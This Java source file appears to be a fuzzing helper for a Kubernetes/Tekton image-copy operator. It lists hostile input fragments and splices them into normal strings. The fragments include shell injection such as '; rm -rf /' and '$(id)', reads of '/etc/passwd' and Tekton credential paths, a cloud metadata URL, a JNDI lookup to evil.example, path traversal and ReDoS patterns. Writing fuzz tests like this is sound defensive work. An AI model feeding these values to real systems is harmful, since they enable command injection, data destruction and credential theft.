package io.skopeo.operator.fuzz;

import java.util.List;
import java.util.Locale;
import java.util.random.RandomGenerator;

/** Texts that mean something to a shell, a parser, a terminal or a program behind us. */
public final class HostileStrings {
  private static final List<String> FRAGMENTS =
      List.of(
          // shells
          "$(id)",
          "`id`",
          "${IFS}",
          "; rm -rf /",
          "&& id",
          "| tee /tmp/x",
          "> /tekton/results/summary",
          "'",
          "\"",
          "\\",
          "$'\\n'",
          "* ?",
          "~root",
          "#",
          "!!",
          "%s%n",
          "{a,b}",
          // what Tekton and the kubelet expand
          "$(params.srcImageURL)",
          "$(workspaces.auth.path)",
          "$(context.taskRun.name)",
          "$(HOME)",
          "$$",
          // options
          "--src-creds=a:b",
          "-f",
          "--",
          "--all",
          "--multi-arch=index-only",
          "--dest-tls-verify=false",
          // transports
          "docker://a b",
          "docker://a docker://b",
          "tarball:/tekton/creds",
          "dir:/tekton/creds",
          "oci-archive:/etc/passwd",
          "containers-storage:x",
          "docker-daemon:x",
          "file:///etc/passwd",
          "http://169.254.169.254/",
          // references
          "user:pass@host",
          "@sha256:",
          "@sha256:" + "0".repeat(64),
          ":latest",
          ":tag@sha256:" + "a".repeat(64),
          "//",
          "/",
          "../",
          "/../../",
          "..",
          ".",
          "%2e%2e%2f",
          "%00",
          "%0a",
          "[::1]:5000/x",
          "[::1%25eth0]/x",
          "[::ffff:127.0.0.1]/x",
          "127.1/x",
          "0x7f000001/x",
          "localhost:0/x",
          "localhost:99999/x",
          // lines and terminals
          "\n",
          "\r\n",
          "\ndocker://evil.example/a docker://evil.example/b",
          "\t",
          "\0",
          "\u001B[2J",
          "\u0085",
          "\u2028",
          // look-alikes and directions
          "\u202Egpj",
          "\u2066",
          "\u200B",
          "\uFEFF",
          "\u0430",
          "\uFF0F",
          "\u2024",
          "\u212A",
          "\u0130",
          "e\u0301",
          "\uD800",
          "\uD83D\uDC0B",
          // data formats
          "{}",
          "[]",
          "null",
          "true",
          "~",
          "!!java.net.URL [x]",
          "&a *a",
          "<<: *a",
          "---",
          "|-",
          "{{ .Values }}",
          "<script>",
          "${jndi:ldap://evil.example/a}",
          "__proto__",
          "constructor",
          // numbers
          "9".repeat(40),
          "-1",
          "1e309",
          "NaN",
          "0x10",
          "1_000",
          "\u0661",
          // expressions
          "(a+)+$",
          "((a{1000}){1000}){1000}",
          "[a-z",
          "(?=a)",
          "\\C*",
          "(?P<a>.)\\1",
          ".*.*.*.*.*.*=.*",
          // Kubernetes
          "kube-system/default",
          "system:serviceaccount:kube-system:default",
          "default/../../secrets/x",
          "?fieldManager=x",
          "kubernetes.io/hostname",
          "node-role.kubernetes.io/control-plane",
          "a".repeat(64),
          "a".repeat(254),
          "a/".repeat(200));

  private HostileStrings() {}

  /** One of them. */
  public static String any(RandomGenerator random) {
    return FRAGMENTS.get(random.nextInt(FRAGMENTS.size()));
  }

  /** A text that was well meant, with one of them in it or instead of it. */
  public static String twisted(String text, RandomGenerator random) {
    int at = random.nextInt(text.length() + 1);
    return switch (random.nextInt(8)) {
      case 0 -> any(random) + text;
      case 1, 2 -> text + any(random);
      case 3 -> text.substring(0, at) + any(random) + text.substring(at);
      case 4 -> text.toUpperCase(Locale.ROOT);
      case 5 -> text.repeat(1 + random.nextInt(40));
      case 6 -> any(random) + any(random);
      default -> any(random);
    };
  }
}
